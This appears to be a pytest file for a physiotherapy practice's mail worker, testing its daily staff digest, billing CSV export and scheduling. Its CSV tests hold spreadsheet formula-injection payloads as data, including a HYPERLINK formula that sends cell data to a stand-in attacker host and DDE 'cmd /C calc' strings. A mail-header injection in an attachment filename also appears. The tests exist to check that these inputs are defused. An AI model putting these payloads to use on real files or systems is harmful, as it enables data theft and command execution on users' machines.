"""The daily digest: sections over a small state, the billing CSV, once per day."""

from __future__ import annotations

import csv
import email
import io
import sqlite3
from collections.abc import Iterator
from datetime import date, datetime, time, timedelta
from email import policy
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from rules.digest import (
    BILLING_COLUMNS,
    MAX_ROWS,
    BillingRow,
    Digest,
    ProblemKind,
    billing_csv,
    build_digest,
    defuse_cell,
    digest_day_due,
    is_digest_due,
)
from rules.models import DueMail, Insurance, Kind, MailKind, Patient, Treatment
from rules.outgoing import build_message
from state import appointments as appointment_store
from state import confirmations as confirmation_store
from state import digest as digest_store
from state import forms as form_store
from state import inbound, outbox, review
from state import patients as patient_store
from state.appointments import Booking
from state.db import connect, transaction
from state.inbound import InboundStatus
from worker.config import Config, parse_config
from worker.cycle import staff

BERLIN = ZoneInfo("Europe/Berlin")
NOW = datetime(2026, 12, 1, 7, 0, tzinfo=BERLIN)  # Tuesday
BOOKED = NOW - timedelta(days=9)


def make_config(tmp_path: Path, **practice: Any) -> Config:
    return parse_config(
        {
            "practice": {
                "name": "Praxis Impulse",
                "address": "termine@praxis-impulse.de",
                "staff": ["team@praxis-impulse.de"],
                **practice,
            },
            "mailbox": {"type": "maildir", "path": str(tmp_path / "inbox")},
            "smtp": {"type": "maildir", "path": str(tmp_path / "outbox")},
            "state": {"path": str(tmp_path / "state.db")},
        },
        base_dir=tmp_path,
    )


class Practice:
    """A small practice state built through the repositories."""

    def __init__(self, conn: sqlite3.Connection) -> None:
        self.conn = conn

    def patient(self, name: str, email: str, *, new: bool = False) -> Patient:
        return patient_store.register_for_booking(
            self.conn, name=name, email=email, insurance=Insurance.PRIVATE, new_patient=new,
            now=BOOKED,
        )  # fmt: skip

    def book(
        self,
        patient: Patient,
        start: datetime,
        kind: Kind,
        *,
        link: str | None = None,
        treatment: Treatment = Treatment.KG,
        external_id: str | None = None,
    ) -> int:
        appointment, _ = appointment_store.upsert(
            self.conn,
            Booking(
                patient_id=patient.id, start=start, end=start + timedelta(minutes=30), kind=kind,
                treatment=treatment, video_link=link, external_id=external_id,
            ),
            now=BOOKED,
        )  # fmt: skip
        return appointment.id

    def confirm(self, appointment_id: int, patient: Patient, day: date, at: datetime) -> None:
        with transaction(self.conn):
            confirmation_store.record(
                self.conn, appointment_id=appointment_id, patient_id=patient.id, day=day,
                message_id=f"<c{appointment_id}@web.de>", mail_sha256="00", evidence="am ...",
                inbound_id=None, now=at,
            )  # fmt: skip

    def form(self, patient: Patient, key: str) -> None:
        with transaction(self.conn):
            form_store.add(
                self.conn, patient_id=patient.id, form_key=key, received_at=NOW, inbound_id=None,
                stored_name=None, original_name=f"{key}.pdf", sniffed_type="pdf", size=1,
                sha256=f"{patient.id}-{key}", now=NOW - timedelta(days=1),
            )  # fmt: skip

    def review_mail(
        self, *, subject: str, reason: str, categories: tuple[str, ...], at: datetime, n: int
    ) -> int:
        with transaction(self.conn):
            inbound_id = inbound.record(
                self.conn, inbound.MailKey(mailbox="INBOX", source_key=f"1:{n}", uidvalidity=1, uid=n),
                message_id=f"<in{n}@web.de>", sha256=f"s{n}", received_at=at,
                status=InboundStatus.REVIEW, categories=categories, now=at,
            )  # fmt: skip
            item = review.add(
                self.conn, kind="mail", dedup_key=f"mail:{inbound_id}", reason=reason,
                subject=subject, inbound_id=inbound_id, now=at,
            )  # fmt: skip
        assert item is not None
        return item

    def outbox_row(
        self, key: str, kind: MailKind, *, appointment_id: int | None, patient_id: int | None,
        status: str, at: datetime = NOW - timedelta(days=1),
    ) -> int:  # fmt: skip
        due = DueMail(
            dedup_key=key, kind=kind, template="x", recipient="anna.schmidt@web.de",
            recipient_name="Anna Schmidt", patient_id=patient_id, appointment_id=appointment_id,
            not_before=at, expires_at=None,
        )  # fmt: skip
        row_id = outbox.add(
            self.conn, due, subject="s", raw=b"x", message_id=f"<{key}@praxis-impulse.de>", now=at
        )
        assert row_id is not None
        if status == "sent":
            outbox.mark_sent(self.conn, row_id, now=at)
        elif status == "failed":
            outbox.mark_failed(self.conn, row_id, code=550, error="5.1.1", now=at)
        return row_id


@pytest.fixture
def conn() -> Iterator[sqlite3.Connection]:
    connection = connect(":memory:")
    yield connection
    connection.close()


@pytest.fixture
def practice(conn: sqlite3.Connection) -> dict[str, Any]:
    """Anna (new, video today 09:00, link sent, one form), Bernd (phone tomorrow, an
    open confirmation from a week ago, address bounced), a confirmed session yesterday,
    a cancellation to review and a failed reminder."""
    p = Practice(conn)
    anna = p.patient("Anna Schmidt", "anna.schmidt@web.de", new=True)
    bernd = p.patient("Bernd Meyer", "bernd.meyer@gmx.de")
    today = p.book(anna, datetime(2026, 12, 1, 9, 0, tzinfo=BERLIN), Kind.VIDEO, link="K7Q-42X")
    tomorrow = p.book(bernd, datetime(2026, 12, 2, 10, 0, tzinfo=BERLIN), Kind.PHONE)
    week_ago = p.book(bernd, datetime(2026, 11, 24, 10, 0, tzinfo=BERLIN), Kind.PHONE)
    yesterday = p.book(
        anna, datetime(2026, 11, 30, 14, 0, tzinfo=BERLIN), Kind.VIDEO, link="ABC",
        treatment=Treatment.KG, external_id="T-1001",
    )  # fmt: skip
    cancelled = p.book(anna, datetime(2026, 12, 1, 11, 0, tzinfo=BERLIN), Kind.PHONE)
    appointment_store.cancel(conn, cancelled, now=BOOKED)
    p.confirm(yesterday, anna, date(2026, 11, 30), datetime(2026, 11, 30, 18, 5, tzinfo=BERLIN))
    # Recorded before the window of the first digest: not in today's billing list.
    old = p.book(anna, datetime(2026, 11, 20, 9, 0, tzinfo=BERLIN), Kind.PHONE)
    p.confirm(old, anna, date(2026, 11, 20), datetime(2026, 11, 21, 9, 0, tzinfo=BERLIN))
    p.form(anna, "anamnese")
    p.outbox_row(
        f"video_link:{today}:v1", MailKind.VIDEO_LINK, appointment_id=today,
        patient_id=anna.id, status="sent",
    )  # fmt: skip
    p.outbox_row(
        f"reminder:{tomorrow}:24h", MailKind.REMINDER, appointment_id=tomorrow,
        patient_id=bernd.id, status="failed",
    )  # fmt: skip
    patient_store.mark_undeliverable(
        conn, "bernd.meyer@gmx.de", reason="bounce", now=NOW - timedelta(hours=5)
    )
    cancellation = p.review_mail(
        subject="Termin morgen absagen", reason="Absage eines Termins; bitte im Kalender prüfen.",
        categories=("cancellation",), at=NOW - timedelta(hours=3), n=1,
    )  # fmt: skip
    return {
        "anna": anna, "bernd": bernd, "today": today, "tomorrow": tomorrow,
        "week_ago": week_ago, "yesterday": yesterday, "cancellation": cancellation,
    }  # fmt: skip


def read_digest(conn: sqlite3.Connection, config: Config) -> Digest:
    """build_digest over the state reads, the way worker.cycle.staff composes it."""
    day_start = datetime.combine(NOW.date(), time(0), tzinfo=BERLIN)
    appointments = digest_store.appointments_between(conn, day_start, day_start + timedelta(8))
    open_ones = digest_store.open_confirmations(conn, since=NOW - timedelta(60), now=NOW)
    ids = {a.patient_id for a in appointments} | {a.patient_id for a in open_ones}
    since = NOW - timedelta(days=1)
    return build_digest(
        now=NOW,
        zone=BERLIN,
        appointments=appointments,
        patients=patient_store.by_ids(conn, ids),
        forms_received=form_store.keys_by_patient(conn, ids),
        forms_policy=config.forms,
        links_sent=digest_store.links_sent(conn, appointments),
        open_confirmations=open_ones,
        confirmations_since_last_digest=digest_store.billing_rows(conn, since=since, until=NOW),
        last_digest_at=since,
        open_review_items=digest_store.open_review_entries(conn),
        delivery_problems=digest_store.delivery_problems(conn, since=NOW - timedelta(7)),
        health=digest_store.health(conn, since=since),
    )


def test_digest_sections_over_a_small_practice(
    conn: sqlite3.Connection, practice: dict[str, Any], tmp_path: Path
) -> None:
    digest = read_digest(conn, make_config(tmp_path))
    assert (digest.day, digest.tomorrow) == (date(2026, 12, 1), date(2026, 12, 2))

    [today] = digest.today_appointments.rows  # the cancelled 11:00 is not listed
    assert (today.appointment_id, today.start.hour, today.kind) == (
        practice["today"],
        9,
        Kind.VIDEO,
    )
    assert today.start.tzinfo == BERLIN
    assert today.forms_complete is False
    # a new patient with a video appointment owes the video privacy information too
    assert today.forms_missing == (
        "Datenschutzerklärung",
        "Einwilligung zur Telebehandlung",
        "Datenschutzinformation Videobehandlung",
    )
    assert today.link_sent is True
    [tomorrow] = digest.tomorrow_appointments.rows
    assert (tomorrow.patient_name, tomorrow.forms_complete, tomorrow.link_sent) == (
        "Bernd Meyer", True, None,
    )  # fmt: skip

    [missing] = digest.missing_forms.rows
    assert (missing.patient_name, missing.next_start.hour) == ("Anna Schmidt", 9)

    [open_one] = digest.open_confirmations.rows
    assert (open_one.appointment_id, open_one.age_days) == (practice["week_ago"], 7)

    [billed] = digest.billing
    assert (billed.appointment_id, billed.external_id, billed.day) == (
        practice["yesterday"], "T-1001", date(2026, 11, 30),
    )  # fmt: skip

    [item] = digest.review.rows
    assert (item.id, item.subject, item.categories) == (
        practice["cancellation"], "Termin morgen absagen", frozenset({"cancellation"}),
    )  # fmt: skip

    problems = {(p.problem, p.address) for p in digest.delivery_problems.rows}
    assert problems == {
        (ProblemKind.FAILED, "anna.schmidt@web.de"),
        (ProblemKind.UNDELIVERABLE, "bernd.meyer@gmx.de"),
    }
    assert digest.health.mails_since_last_report == {"review": 1}


def test_link_of_an_older_version_does_not_count_as_sent(
    conn: sqlite3.Connection, practice: dict[str, Any], tmp_path: Path
) -> None:
    appointment_store.set_link(conn, practice["today"], "NEW-CODE", now=NOW)
    [today] = read_digest(conn, make_config(tmp_path)).today_appointments.rows
    assert today.link_sent is False


@pytest.mark.parametrize(
    ("status", "sent"),
    [
        pytest.param("pending", True, id="queued-goes-out-with-the-digest"),
        pytest.param("sent", True, id="sent"),
        pytest.param("failed", False, id="failed"),
    ],
)
def test_link_sent_by_the_state_of_its_mail(
    conn: sqlite3.Connection, tmp_path: Path, status: str, sent: bool
) -> None:
    p = Practice(conn)
    bernd = p.patient("Bernd Meyer", "bernd.meyer@gmx.de")
    appointment = p.book(bernd, NOW + timedelta(hours=3), Kind.VIDEO, link="K7Q")
    p.outbox_row(
        f"video_link:{appointment}:v1", MailKind.VIDEO_LINK, appointment_id=appointment,
        patient_id=bernd.id, status=status,
    )  # fmt: skip
    [line] = read_digest(conn, make_config(tmp_path)).today_appointments.rows
    assert (line.link_sent, line.link_missing) == (sent, False)


@pytest.mark.parametrize(
    ("language", "headings"),
    [
        pytest.param(
            "de",
            [
                "Termine heute / morgen",
                "Fehlende Unterlagen",
                "Offene Bestätigungen",
                "Neu bestätigt seit dem letzten Bericht",
                "Bitte prüfen",
                "Zustellprobleme",
                "Zustand des Programms",
            ],
            id="de",
        ),
        pytest.param(
            # Staff mail is German whatever the patients' language (mail_templates/names.py).
            "en",
            [
                "Termine heute / morgen",
                "Bitte prüfen",
                "Zustand des Programms",
            ],
            id="en-practice-staff-still-german",
        ),
    ],
)
def test_rendered_digest_has_every_section(
    conn: sqlite3.Connection,
    practice: dict[str, Any],
    tmp_path: Path,
    language: str,
    headings: list[str],
) -> None:
    composed = staff.compose_digest(conn, make_config(tmp_path, language=language), now=NOW)
    text = composed.mail.text
    for heading in headings:
        assert heading.upper() in text
    assert "Anna Schmidt" in text
    assert "Termin morgen absagen" in text  # the subject of the mail to review
    assert "Absage eines Termins" in text  # and the reason
    assert "{{" not in text
    assert "{%" not in text
    assert composed.csv is not None


def test_subject_names_practice_and_day(
    conn: sqlite3.Connection, practice: dict[str, Any], tmp_path: Path
) -> None:
    composed = staff.compose_digest(conn, make_config(tmp_path), now=NOW)
    assert composed.mail.subject == "Tagesbericht Praxis Impulse – Dienstag, 1. Dezember 2026"
    assert "09:00  Video    Anna Schmidt" in composed.mail.text
    assert "seit 7 Tagen offen" in composed.mail.text


def test_empty_practice_renders_calm_sections(conn: sqlite3.Connection, tmp_path: Path) -> None:
    composed = staff.compose_digest(conn, make_config(tmp_path), now=NOW)
    assert "keine Termine" in composed.mail.text
    assert "Keine neuen Bestätigungen." in composed.mail.text
    assert "Nichts offen." in composed.mail.text
    assert composed.csv is None


# --- billing CSV ---------------------------------------------------------------------------


def billing_row(name: str, **overrides: Any) -> BillingRow:
    values: dict[str, Any] = {
        "day": date(2026, 11, 30),
        "appointment_id": 17,
        "external_id": "T-1001",
        "patient_id": 4,
        "patient_name": name,
        "kind": Kind.VIDEO,
        "treatment": Treatment.KG,
        "confirmed_at": datetime(2026, 11, 30, 17, 5, tzinfo=BERLIN),
        "message_id": "<abc@web.de>",
    }
    values.update(overrides)
    return BillingRow(**values)


def parse_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_billing_csv_layout() -> None:
    data = billing_csv([billing_row("Jürgen Müller")], zone=BERLIN)
    assert b"\r\n" in data
    header, row = parse_csv(data)
    assert tuple(header) == BILLING_COLUMNS
    assert row == [
        "30.11.2026", "17", "T-1001", "4", "Jürgen Müller", "Video", "KG", "30.11.2026 17:05",
        "<abc@web.de>", "Mail des Patienten", "", "", "", "",
    ]  # fmt: skip
    [_, staff_row] = parse_csv(billing_csv([billing_row("A", source="staff_note")], zone=BERLIN))
    assert staff_row[9] == "Notiz des Praxisteams (telefonisch bestätigt)"


def test_billing_csv_appends_insurance_position_and_prescription() -> None:
    # The first ten columns are what scripts read since before issue 15: never moved.
    assert BILLING_COLUMNS[:10] == (
        "Datum der Behandlung", "Termin-ID", "Externe ID", "Patient-ID", "Name", "Art",
        "Behandlung", "bestätigt am", "Message-ID", "Nachweis",
    )  # fmt: skip
    assert BILLING_COLUMNS[10:] == (
        "Versicherung",
        "Positionsnummer",
        "Verordnung",
        "Verordnung-ID",
    )
    row = billing_row(
        "Anna",
        insurance=Insurance.GKV,
        prescription_id=3,
        prescription_reference="VO-4711",
    )
    positions = {"gkv.video.KG": "X1234", "gkv.phone.KG": "X9999", "private.video.KG": "P1"}
    [_, cells] = parse_csv(billing_csv([row], zone=BERLIN, positions=positions))
    assert cells[10:] == ["GKV", "X1234", "VO-4711", "3"]
    private = billing_row("B", insurance=Insurance.PRIVATE, kind=Kind.PHONE)
    [_, cells] = parse_csv(billing_csv([private], zone=BERLIN, positions=positions))
    assert cells[10:] == ["privat", "", "", ""]  # no number configured: left empty


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        pytest.param(
            '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Klick")',
            id="hyperlink",
        ),
        pytest.param("+49 170 1234567", "'+49 170 1234567", id="plus-phone"),
        pytest.param("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", id="minus-dde"),
        pytest.param("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0", id="at-sum"),
        pytest.param("\t=1+1", "'\t=1+1", id="tab"),
        pytest.param("\r=1+1", "'\r=1+1", id="carriage-return"),
        pytest.param("  =1+1", "'  =1+1", id="blank-then-formula"),
        pytest.param("Anna Schmidt", "Anna Schmidt", id="plain-name"),
        pytest.param("Müller-Lüdenscheidt", "Müller-Lüdenscheidt", id="inner-hyphen"),
        pytest.param('Anna "Anni"; Schmidt', 'Anna "Anni"; Schmidt', id="quote-and-semicolon"),
    ],
)
def test_billing_csv_defuses_formulas(name: str, cell: str) -> None:
    [_, row] = parse_csv(billing_csv([billing_row(name)], zone=BERLIN))
    assert row[4] == cell
    assert defuse_cell(name) == cell


def test_billing_csv_defuses_every_column() -> None:
    data = billing_csv([billing_row("Anna", external_id="=1+2", message_id="@evil")], zone=BERLIN)
    [_, row] = parse_csv(data)
    assert (row[2], row[8]) == ("'=1+2", "'@evil")


# --- once a day ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("now", "due", "day"),
    [
        pytest.param(datetime(2026, 12, 1, 6, 59, tzinfo=BERLIN), False, date(2026, 11, 30), id="before"),
        pytest.param(datetime(2026, 12, 1, 7, 0, tzinfo=BERLIN), True, date(2026, 12, 1), id="at-07"),
        pytest.param(datetime(2026, 12, 1, 23, 59, tzinfo=BERLIN), True, date(2026, 12, 1), id="late-same-day"),
        pytest.param(datetime(2026, 12, 1, 6, 30, tzinfo=ZoneInfo("UTC")), True, date(2026, 12, 1), id="utc-input"),
        pytest.param(datetime(2026, 3, 29, 7, 0, tzinfo=BERLIN), True, date(2026, 3, 29), id="dst-spring"),
        pytest.param(datetime(2026, 10, 25, 6, 30, tzinfo=BERLIN), False, date(2026, 10, 24), id="dst-autumn-before"),
    ],
)  # fmt: skip
def test_digest_due_from_digest_at(now: datetime, due: bool, day: date) -> None:
    assert is_digest_due(now=now, digest_at=time(7, 0), zone=BERLIN) is due
    assert digest_day_due(now=now, digest_at=time(7, 0), zone=BERLIN) == day


def test_last_daily_digest_counts_only_sent_daily_ones(
    conn: sqlite3.Connection, practice: dict[str, Any]
) -> None:
    p = Practice(conn)
    assert digest_store.last_daily_digest_at(conn) is None
    sent_at = NOW - timedelta(days=1)
    p.outbox_row(
        "staff_digest:2026-11-30:team@x.de", MailKind.STAFF_DIGEST, appointment_id=None,
        patient_id=None, status="sent", at=sent_at,
    )  # fmt: skip
    p.outbox_row(
        "staff_digest:manual:2026-11-30T10:00:00+00:00:team@x.de", MailKind.STAFF_DIGEST,
        appointment_id=None, patient_id=None, status="sent", at=sent_at + timedelta(hours=3),
    )  # fmt: skip
    p.outbox_row(
        "staff_digest:2026-12-01:team@x.de", MailKind.STAFF_DIGEST, appointment_id=None,
        patient_id=None, status="pending", at=NOW,
    )  # fmt: skip
    assert digest_store.last_daily_digest_at(conn) == sent_at


# --- the digest mail: attachment, once per day, after a down-time ----------------------------


def test_build_message_attaches_files_beside_the_text() -> None:
    raw = build_message(
        from_name="Praxis Impulse", from_address="termine@praxis-impulse.de",
        to_name="Praxis Impulse", to_address="team@praxis-impulse.de", subject="Tagesbericht",
        text="Hallo\n", html="<p>Hallo</p>", message_id="<pw-0123456789abcdef@praxis-impulse.de>",
        date=NOW, attachments=[
            ("bestätigungen\r\nX-Evil: 1.csv", "text/csv; charset=utf-8", b"\xef\xbb\xbfa;b\r\n")
        ],
    )  # fmt: skip
    mail = email.message_from_bytes(raw, policy=policy.default)
    assert mail.get_content_type() == "multipart/mixed"
    assert mail["X-Evil"] is None
    body = mail.get_body(preferencelist=("plain",))
    assert body is not None
    assert body.get_content().strip() == "Hallo"
    [attachment] = list(mail.iter_attachments())
    assert attachment.get_content_type() == "text/csv"
    assert attachment.get_content_charset() == "utf-8"
    assert attachment.get_filename() == "bestätigungen X-Evil: 1.csv"
    assert attachment.get_payload(decode=True) == b"\xef\xbb\xbfa;b\r\n"


def test_build_message_without_attachments_is_unchanged() -> None:
    common: dict[str, Any] = {
        "from_name": "P", "from_address": "termine@praxis-impulse.de", "to_name": "T",
        "to_address": "team@praxis-impulse.de", "subject": "S", "text": "x\n",
        "message_id": "<pw-0123456789abcdef@praxis-impulse.de>", "date": NOW,
    }  # fmt: skip
    assert build_message(**common) == build_message(**common, attachments=())


def tokens() -> Iterator[str]:
    n = 0
    while True:
        n += 1
        yield f"{n:032x}"


def digest_rows(conn: sqlite3.Connection) -> list[outbox.OutboxRow]:
    return [r for r in outbox.list_rows(conn) if r.kind == "staff_digest"]


def test_daily_digest_is_stored_once_per_day_with_the_csv(
    conn: sqlite3.Connection, practice: dict[str, Any], tmp_path: Path
) -> None:
    config = make_config(tmp_path)
    token = tokens()

    def cycle(now: datetime) -> int:
        return staff.enqueue_daily_digest(conn, config, now=now, token_factory=lambda: next(token))

    assert cycle(NOW - timedelta(minutes=1)) == 0  # 06:59: not yet
    assert cycle(NOW) == 1
    assert cycle(NOW + timedelta(minutes=1)) == 0
    assert cycle(NOW + timedelta(hours=16, minutes=59)) == 0  # 23:59, same day
    [row] = digest_rows(conn)
    assert row.dedup_key == "staff_digest:2026-12-01:team@praxis-impulse.de"
    assert row.recipient == "team@praxis-impulse.de"
    assert row.next_attempt_at == NOW  # no quiet hours, no holding back
    mail = email.message_from_bytes(row.raw, policy=policy.default)
    assert mail["Subject"] == "Tagesbericht Praxis Impulse – Dienstag, 1. Dezember 2026"
    [attachment] = list(mail.iter_attachments())
    assert attachment.get_filename() == "bestaetigungen-2026-12-01.csv"
    [_, billed] = parse_csv(attachment.get_payload(decode=True))
    assert billed[1] == str(practice["yesterday"])

    assert cycle(NOW + timedelta(days=1)) == 1  # the next morning
    assert len(digest_rows(conn)) == 2


def test_worker_down_at_digest_time_sends_it_when_back_the_same_day(
    conn: sqlite3.Connection, tmp_path: Path
) -> None:
    config = make_config(tmp_path, staff=["team@praxis-impulse.de", "chefin@praxis-impulse.de"])
    token = tokens()
    back = NOW + timedelta(hours=6, minutes=13)  # 13:13, the worker was down since 05:00
    added = staff.enqueue_staff_mail(conn, config, now=back, token_factory=lambda: next(token))
    assert added == 2
    assert sorted(r.recipient for r in digest_rows(conn)) == [
        "chefin@praxis-impulse.de",
        "team@praxis-impulse.de",
    ]
    again = staff.enqueue_staff_mail(
        conn, config, now=back + timedelta(minutes=1), token_factory=lambda: next(token)
    )
    assert again == 0


def test_next_billing_list_starts_where_the_last_sent_one_ended(
    conn: sqlite3.Connection, practice: dict[str, Any], tmp_path: Path
) -> None:
    config = make_config(tmp_path)
    token = tokens()
    staff.enqueue_daily_digest(conn, config, now=NOW, token_factory=lambda: next(token))
    [first] = digest_rows(conn)
    outbox.mark_sent(conn, first.id, now=NOW)
    p = Practice(conn)
    p.confirm(practice["week_ago"], practice["bernd"], date(2026, 11, 24), NOW + timedelta(hours=2))
    composed = staff.compose_digest(conn, config, now=NOW + timedelta(days=1))
    assert composed.csv is not None
    [_, only] = parse_csv(composed.csv)
    assert only[1] == str(practice["week_ago"])  # yesterday's row is not repeated


def test_unsent_digest_does_not_move_the_billing_window(
    conn: sqlite3.Connection, practice: dict[str, Any], tmp_path: Path
) -> None:
    """Day 1 sent; day 2 stuck in the outbox (server down); day 3 lists day 2's
    confirmations again: a billing row may repeat, it is never lost."""
    config = make_config(tmp_path)
    token = tokens()
    staff.enqueue_daily_digest(conn, config, now=NOW, token_factory=lambda: next(token))
    [day1] = digest_rows(conn)
    outbox.mark_sent(conn, day1.id, now=NOW)
    p = Practice(conn)
    p.confirm(practice["week_ago"], practice["bernd"], date(2026, 11, 24), NOW + timedelta(hours=2))
    day2 = NOW + timedelta(days=1)
    staff.enqueue_daily_digest(conn, config, now=day2, token_factory=lambda: next(token))
    assert [r.status.value for r in digest_rows(conn)] == ["sent", "pending"]
    composed = staff.compose_digest(conn, config, now=day2 + timedelta(days=1))
    assert composed.csv is not None
    [_, repeated] = parse_csv(composed.csv)
    assert repeated[1] == str(practice["week_ago"])


def test_no_staff_address_means_no_staff_mail(
    conn: sqlite3.Connection, practice: dict[str, Any], tmp_path: Path
) -> None:
    config = make_config(tmp_path, staff=[])
    assert staff.enqueue_staff_mail(conn, config, now=NOW) == 0
    assert outbox.list_rows(conn, since=NOW) == []


def test_digest_and_alert_reads_never_scan_a_table(
    conn: sqlite3.Connection, practice: dict[str, Any], tmp_path: Path
) -> None:
    """Every read is bounded by an index (the benchmark runs with 100,000 appointments)."""
    config = make_config(tmp_path)
    statements: list[str] = []
    conn.set_trace_callback(statements.append)
    staff.compose_digest(conn, config, now=NOW)
    staff.plan_alert(conn, config, now=NOW)
    conn.set_trace_callback(None)
    selects = [s for s in statements if s.lstrip().upper().startswith("SELECT")]
    assert len(selects) >= 10
    for statement in selects:
        plan = [row[3] for row in conn.execute(f"EXPLAIN QUERY PLAN {statement}")]
        assert not [step for step in plan if step.startswith("SCAN")], (plan, statement)


def test_review_names_the_patient_and_the_mail_by_subject_and_date(
    conn: sqlite3.Connection, practice: dict[str, Any], tmp_path: Path
) -> None:
    conn.execute(
        "UPDATE review_items SET patient_id = ? WHERE id = ?",
        (practice["anna"].id, practice["cancellation"]),
    )
    conn.commit()
    text = staff.compose_digest(conn, make_config(tmp_path), now=NOW).mail.text
    assert f"[{practice['cancellation']}] Anna Schmidt" in text
    assert "„Termin morgen absagen“ vom Dienstag, 1. Dezember 2026" in text
    assert "Patient 1" not in text
    assert "praxis-worker review" not in text  # no shell commands for staff


@pytest.mark.parametrize(
    ("by", "shown"),
    [
        (review.RESOLVED_BY_MAILBOX, "erledigt (im Postfach)"),
        (review.RESOLVED_BY_STAFF_MAIL, "erledigt (per Mail)"),
        (review.RESOLVED_BY_CLI, "erledigt (Kommandozeile)"),
    ],
    ids=["mailbox", "staff-mail", "cli"],
)
def test_items_resolved_since_the_last_report_show_how(
    conn: sqlite3.Connection, practice: dict[str, Any], tmp_path: Path, by: str, shown: str
) -> None:
    assert review.resolve(conn, practice["cancellation"], now=NOW - timedelta(hours=1), by=by)
    text = staff.compose_digest(conn, make_config(tmp_path), now=NOW).mail.text
    done = text[text.index("Seit dem letzten Bericht erledigt:") :]
    assert f"[{practice['cancellation']}] „Termin morgen absagen“ – {shown}" in done
    assert "Nichts offen." in text


def test_an_appointment_on_hold_is_marked_in_the_digest(
    conn: sqlite3.Connection, practice: dict[str, Any], tmp_path: Path
) -> None:
    """Issue 13: a patient's open cancellation mail holds her appointment; staff see it."""
    with transaction(conn):
        conn.execute(
            "UPDATE review_items SET patient_id = ? WHERE id = ?",
            (practice["anna"].id, practice["cancellation"]),
        )
    digest = read_digest(conn, make_config(tmp_path))
    [today] = digest.today_appointments.rows
    assert today.on_hold is True
    assert [row.on_hold for row in digest.tomorrow_appointments.rows] == [False]
    text = staff.compose_digest(conn, make_config(tmp_path), now=NOW).mail.text
    assert "ANGEHALTEN: Absage oder Verschiebungsbitte offen" in text
    assert f"appointments release {practice['today']}" in text


def test_a_backlog_of_review_items_is_listed_to_max_rows_and_counted(
    conn: sqlite3.Connection, tmp_path: Path
) -> None:
    """Only the listed rows are read into the report (docs/performance.md: a backlog
    leaves 17,500 open items); it lists the oldest open items and the first resolved
    ones, and counts the rest, exactly as when every row was read."""
    p = Practice(conn)
    count = 2 * MAX_ROWS + 10
    start = NOW - timedelta(hours=20)
    items = [
        p.review_mail(
            subject=f"Frage {n}",
            reason="Frage; bitte beantworten.",
            categories=("question",),
            at=start + timedelta(seconds=n * 11 % count),
            n=n,  # created in an order of their own
        )
        for n in range(count)
    ]
    done = items[: MAX_ROWS + 6]
    for k, item in enumerate(reversed(done)):  # resolved in yet another order
        by = review.RESOLVED_BY_CLI
        assert review.resolve(conn, item, now=NOW - timedelta(minutes=k + 1), by=by)
    conn.commit()
    config = make_config(tmp_path)
    text = staff.compose_digest(conn, config, now=NOW).mail.text
    since = NOW - timedelta(days=1)  # the first digest's window, as read_digest's
    every_open = digest_store.open_review_entries(conn)
    every_done = digest_store.resolved_review_entries(conn, since=since)
    assert (len(every_open), len(every_done)) == (MAX_ROWS + 4, MAX_ROWS + 6)
    reference = build_digest(
        now=NOW, zone=BERLIN, appointments=(), patients={}, forms_received={},
        forms_policy=config.forms, links_sent=frozenset(), open_confirmations=(),
        confirmations_since_last_digest=(), last_digest_at=since,
        open_review_items=every_open, delivery_problems=(),
        health=digest_store.health(conn, since=since), resolved_review_items=every_done,
    )  # fmt: skip
    assert (reference.review.more, reference.review_done.more) == (4, 6)
    review_part = text[text.index("BITTE PRÜFEN") : text.index("Seit dem letzten Bericht")]
    done_part = text[text.index("Seit dem letzten Bericht") :]
    assert _listed_ids(review_part) == [r.id for r in reference.review.rows]
    assert _listed_ids(done_part) == [r.id for r in reference.review_done.rows]
    assert "… und 4 weitere" in review_part
    assert "… und 6 weitere" in done_part
    # the bounded reads are the first rows of the full ones, in the report's order
    assert digest_store.open_review_entries(conn, limit=5) == every_open[:5]
    assert digest_store.count_open_review_items(conn) == MAX_ROWS + 4
    assert digest_store.count_resolved_review_items(conn, since=since) == MAX_ROWS + 6
    assert (
        digest_store.resolved_review_entries(conn, since=since, limit=5)
        == sorted(every_done, key=lambda r: (r.resolved_at or r.created_at, r.id))[:5]
    )


def _listed_ids(text: str) -> list[int]:
    return [
        int(line.split("]")[0].strip(" [")) for line in text.splitlines() if line.startswith("  [")
    ]


def test_review_items_are_read_in_index_order_without_a_sort(
    conn: sqlite3.Connection, practice: dict[str, Any], tmp_path: Path
) -> None:
    """The alert reads every open item oldest first and the digest the oldest MAX_ROWS:
    both in the order of an index (migration 17), never sorted in memory."""
    config = make_config(tmp_path)
    statements: list[str] = []
    conn.set_trace_callback(statements.append)
    staff.compose_digest(conn, config, now=NOW)
    staff.plan_alert(conn, config, now=NOW)
    conn.set_trace_callback(None)
    reads = [s for s in statements if "FROM review_items r LEFT JOIN" in " ".join(s.split())]
    assert len(reads) == 3  # the alert's stream, the digest's open and resolved items
    for statement in reads:
        plan = [row[3] for row in conn.execute(f"EXPLAIN QUERY PLAN {statement}")]
        assert not [step for step in plan if "TEMP B-TREE" in step], (plan, statement)
